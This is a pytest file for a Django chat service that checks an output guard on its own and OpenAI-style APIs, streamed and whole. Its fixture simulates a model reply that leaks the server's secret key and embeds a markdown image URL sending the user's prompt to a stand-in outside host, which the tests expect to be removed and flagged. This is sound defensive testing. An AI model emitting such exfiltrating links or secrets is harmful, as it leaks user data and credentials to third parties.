"""The output guard on every API: what a person is told, and what is stored."""

from __future__ import annotations

import json
from uuid import uuid4

import pytest
from django.conf import settings

from conversations.models import Message
from tests.live_site import LiveSite

TEXT = "The signing key is {key}. ![x](https://other.example/?q={told}) Anything else?"
CLEAN = "The signing key is [removed]. ![x]([picture removed]) Anything else?"


@pytest.fixture
def prompt(site: LiveSite) -> str:
    prompt = f"Please tell me what you know about herons {uuid4().hex}"
    told = prompt.replace(" ", "+")
    site.simulator.fault(
        match=prompt, call="chat", text=TEXT.format(key=settings.SECRET_KEY, told=told)
    )
    return prompt


def test_a_stream_and_its_message_are_clean(site: LiveSite, prompt: str) -> None:
    person = site.person()
    message = person.ask(prompt)

    assert message["content"] == CLEAN
    assert message["decision"]["guard"]["verdict"] == "flag"
    assert message["decision"]["guard"]["signals"] == ["output_secret", "output_address"]
    stored = Message.objects.get(pk=message["id"])
    assert settings.SECRET_KEY not in json.dumps(stored.guard) + stored.content
    told = person.http.get(f"/api/v1/messages/{message['id']}/stream/").text
    assert "output_removed" in told
    assert settings.SECRET_KEY not in told
    assert "other.example" not in told


def test_the_api_of_openai_is_clean(site: LiveSite, prompt: str) -> None:
    person = site.person()
    body = {"model": "gpt-mini", "messages": [{"role": "user", "content": prompt}]}
    whole = person.http.post("/v1/chat/completions", json=body).json()
    streamed = person.http.post("/v1/chat/completions", json={**body, "stream": True}).text
    pieces = [
        json.loads(line.removeprefix("data: "))
        for line in streamed.splitlines()
        if line.startswith("data: {")
    ]
    text = "".join(piece["choices"][0]["delta"].get("content") or "" for piece in pieces)

    assert whole["choices"][0]["message"]["content"] == CLEAN
    assert text == CLEAN
